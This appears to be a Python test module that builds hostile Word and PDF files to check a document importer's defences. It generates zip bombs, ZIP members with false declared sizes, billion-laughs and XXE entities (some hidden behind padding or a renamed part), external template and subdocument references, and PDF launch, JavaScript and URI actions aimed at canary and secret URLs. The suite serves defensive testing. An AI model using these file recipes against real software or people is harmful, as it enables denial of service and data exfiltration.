"""Hostile Word and PDF files, made byte by byte: zip bombs, entity bombs and external
entities in the XML parts, external relationships, and PDFs whose actions and streams
point outside or inflate without end."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

from tests.reliability.hostile.cases import IMPORTED, REFUSED, Case, Context
from tests.reliability.hostile.pages import _laughs

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOC_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TEXT = ("Paragraph one of the memo: the shipment was denied.", "Paragraph two of the memo.")

CONTENT_TYPES = (
    "<?xml version='1.0' encoding='UTF-8'?>"
    "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
    "<Default Extension='rels' "
    "ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
    "<Default Extension='xml' ContentType='application/xml'/>"
    "<Default Extension='bin' ContentType='application/octet-stream'/>"
    f"<Override PartName='/{{main}}' ContentType='{DOC_TYPE}'/></Types>"
)
ROOT_RELS = (
    "<?xml version='1.0' encoding='UTF-8'?>"
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    f"<Relationship Id='rId1' Type='{R}/officeDocument' Target='{{main}}'/></Relationships>"
)


def document_xml(paragraphs: tuple[str, ...] = TEXT, prolog: str = "", extra: str = "") -> str:
    body = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    return (
        f"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>{prolog}"
        f"<w:document xmlns:w='{W}' xmlns:r='{R}'><w:body>{body}{extra}</w:body></w:document>"
    )


def make_docx(
    path: Path,
    document: str | None = None,
    *,
    main: str = "word/document.xml",
    rels: str | None = None,
    extra: dict[str, bytes] | None = None,
) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES.replace("{main}", main))
        z.writestr("_rels/.rels", ROOT_RELS.replace("{main}", main))
        z.writestr(main, document if document is not None else document_xml())
        if rels is not None:
            folder, _, leaf = main.rpartition("/")
            z.writestr(f"{folder}/_rels/{leaf}.rels", rels)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return path


def _deflated(megabytes: int, head: bytes = b"", fill: bytes = b"\0", wbits: int = -15) -> bytes:
    """``head`` and ``megabytes`` MB of ``fill``, deflated (raw, or zlib with wbits=15)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    chunk = fill * (1024 * 1024)
    out = [packer.compress(head)]
    out.extend(packer.compress(chunk) for _ in range(megabytes))
    return b"".join(out) + packer.flush()


def _raw_member(z: zipfile.ZipFile, name: str, deflated: bytes, size: int, crc: int) -> None:
    """A member written as it is, with the sizes it declares (true or not)."""
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    info.file_size, info.compress_size, info.CRC = size, len(deflated), crc
    z.fp.write(info.FileHeader())  # type: ignore[union-attr]
    info.header_offset = z.fp.tell() - len(info.FileHeader())  # type: ignore[union-attr]
    z.fp.write(deflated)  # type: ignore[union-attr]
    z.filelist.append(info)
    z.NameToInfo[name] = info
    z.start_dir = z.fp.tell()  # type: ignore[union-attr]
    z._didModify = True  # type: ignore[attr-defined]


def zip_bomb(ctx: Context) -> Path:
    path = make_docx(ctx.imports / "zip_bomb.docx")
    megabytes = 300
    crc = 0
    chunk = bytes(1024 * 1024)
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    with zipfile.ZipFile(path, "a") as z:
        _raw_member(z, "word/media/bomb.bin", _deflated(megabytes), megabytes << 20, crc)
    return path


def lying_sizes(ctx: Context) -> Path:
    """The document part claims 2 KB and inflates to 300 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES.replace("{main}", "word/document.xml"))
        z.writestr("_rels/.rels", ROOT_RELS.replace("{main}", "word/document.xml"))
        _raw_member(z, "word/document.xml", _deflated(300), 2048, 0)
    path = ctx.imports / "lying_sizes.docx"
    path.write_bytes(buffer.getvalue())
    return path


def docx_laughs(ctx: Context) -> Path:
    document = document_xml(("&lol9;",), prolog=_laughs("w:document"))
    return make_docx(ctx.imports / "billion_laughs.docx", document)


def docx_xxe(ctx: Context) -> Path:
    prolog = f"<!DOCTYPE w:document [<!ENTITY xxe SYSTEM '{ctx.secret_url}'>]>"
    return make_docx(ctx.imports / "xxe.docx", document_xml((*TEXT, "&xxe;"), prolog=prolog))


def docx_late_dtd(ctx: Context) -> Path:
    """The DTD after 70 KB of comment, past the first look at each part."""
    prolog = "<!--" + " " * 70_000 + "-->" + _laughs("w:document")
    return make_docx(ctx.imports / "late_dtd.docx", document_xml((*TEXT, "&lol9;"), prolog=prolog))


def docx_late_xxe(ctx: Context) -> Path:
    prolog = (
        "<!--"
        + " " * 70_000
        + f"--><!DOCTYPE w:document [<!ENTITY xxe SYSTEM '{ctx.secret_url}'>]>"
    )
    return make_docx(ctx.imports / "late_xxe.docx", document_xml((*TEXT, "&xxe;"), prolog=prolog))


def docx_renamed_part(ctx: Context) -> Path:
    """The real main part under another name (with a DTD); a harmless word/document.xml beside."""
    prolog = f"<!DOCTYPE w:document [<!ENTITY xxe SYSTEM '{ctx.secret_url}'>]>"
    path = make_docx(
        ctx.imports / "renamed_part.docx",
        document_xml((*TEXT, "&xxe;"), prolog=prolog),
        main="word/main.dat",
        extra={"word/document.xml": document_xml(("decoy",)).encode()},
    )
    return path


def docx_external(ctx: Context) -> Path:
    c, s = ctx.canary, ctx.secret_url
    rels = (
        "<?xml version='1.0' encoding='UTF-8'?>"
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
        f"<Relationship Id='rId5' Type='{R}/image' Target='{c}/img.png' TargetMode='External'/>"
        f"<Relationship Id='rId6' Type='{R}/attachedTemplate' Target='{s}' TargetMode='External'/>"
        f"<Relationship Id='rId7' Type='{R}/hyperlink' Target='{c}/link' TargetMode='External'/>"
        f"<Relationship Id='rId8' Type='{R}/subDocument' Target='{s}' TargetMode='External'/>"
        f"<Relationship Id='rId9' Type='{R}/aFChunk' Target='{c}/chunk.html' "
        "TargetMode='External'/>"
        "</Relationships>"
    )
    extra = (
        f"<w:p><w:hyperlink r:id='rId7'><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>"
        f"<w:p><w:r><w:fldSimple w:instr='INCLUDETEXT \"{ctx.secret}\"'/></w:r></w:p>"
        f"<w:altChunk r:id='rId9'/>"
    )
    return make_docx(ctx.imports / "external_refs.docx", document_xml(extra=extra), rels=rels)


def docx_members(ctx: Context) -> Path:
    extra = {f"word/media/m{i}.bin": b"" for i in range(12_000)}
    return make_docx(ctx.imports / "many_members.docx", extra=extra)


def docx_nested_tables(ctx: Context) -> Path:
    depth = 2_000
    cell_open = "<w:tbl><w:tr><w:tc>"
    cell_close = "<w:p/></w:tc></w:tr></w:tbl>"
    extra = cell_open * depth + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + cell_close * depth
    return make_docx(ctx.imports / "nested_tables.docx", document_xml(extra=extra))


# --- PDF -------------------------------------------------------------------------------


def make_pdf(path: Path, objects: list[bytes], root: int = 1) -> Path:
    """A PDF of ``objects`` (object n is objects[n-1]) with a correct cross-reference."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    path.write_bytes(bytes(out))
    return path


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PDF_TEXT = b"BT /F1 12 Tf 72 720 Td (Paragraph one of the filing: the claim is disputed.) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _pdf(ctx: Context, name: str, catalog_extra: bytes, annots: bytes, content: bytes) -> Path:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + annots + b" >>",
        content,
        FONT,
    ]
    return make_pdf(ctx.imports / name, objects)


def pdf_actions(ctx: Context) -> Path:
    c, s = ctx.canary.encode(), ctx.secret_url.encode()
    catalog = (
        b"/OpenAction << /S /URI /URI (" + c + b"/open) >> "
        b"/AA << /WC << /S /Launch /F (" + s + b") >> >> "
        b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.launchURL\\('"
        + c
        + b"/js'\\)) >>] >> >>"
    )
    annots = (
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F ("
        + s
        + b") /D [0 /Fit] >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ("
        + c
        + b"/uri) >> >>]"
    )
    return _pdf(ctx, "actions.pdf", catalog, annots, _stream(PDF_TEXT))


def pdf_flate_bomb(ctx: Context) -> Path:
    bomb = _deflated(400, PDF_TEXT + b"\n", b" ", wbits=15)
    return _pdf(ctx, "flate_bomb.pdf", b"", b"", _stream(bomb, b"/Filter /FlateDecode"))


def pdf_nested(ctx: Context) -> Path:
    deep = b"[" * 100_000 + b"]" * 100_000
    return _pdf(ctx, "nested_arrays.pdf", b"/Deep " + deep, b"", _stream(PDF_TEXT))


def pdf_loop(ctx: Context) -> Path:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(PDF_TEXT),
        FONT,
    ]
    return make_pdf(ctx.imports / "page_tree_loop.pdf", objects)


DOCUMENT_CASES = [
    Case("docx_zip_bomb", "article", REFUSED, zip_bomb, "zip bomb"),
    Case("docx_lying_sizes", "article", REFUSED, lying_sizes, "Word document|zip"),
    Case("docx_billion_laughs", "article", REFUSED, docx_laughs, "DTD"),
    Case("docx_xxe", "article", REFUSED, docx_xxe, "DTD"),
    Case("docx_late_dtd", "article", REFUSED, docx_late_dtd, "DTD"),
    Case("docx_late_xxe", "article", REFUSED, docx_late_xxe, "DTD"),
    Case("docx_renamed_part", "article", REFUSED, docx_renamed_part, "DTD"),
    Case("docx_external_refs", "article", IMPORTED, docx_external, must_have=TEXT),
    Case("docx_many_members", "article", REFUSED, docx_members, "parts"),
    Case("docx_nested_tables", "article", REFUSED, docx_nested_tables, "Word document"),
    Case(
        "pdf_actions", "article", IMPORTED, pdf_actions, must_have=("Paragraph one of the filing",)
    ),
    Case("pdf_flate_bomb", "article", REFUSED, pdf_flate_bomb, "cannot be read|damaged|too"),
    Case("pdf_nested_arrays", "article", REFUSED, pdf_nested, "damaged"),
    Case("pdf_page_tree_loop", "article", REFUSED, pdf_loop, "damaged"),
]
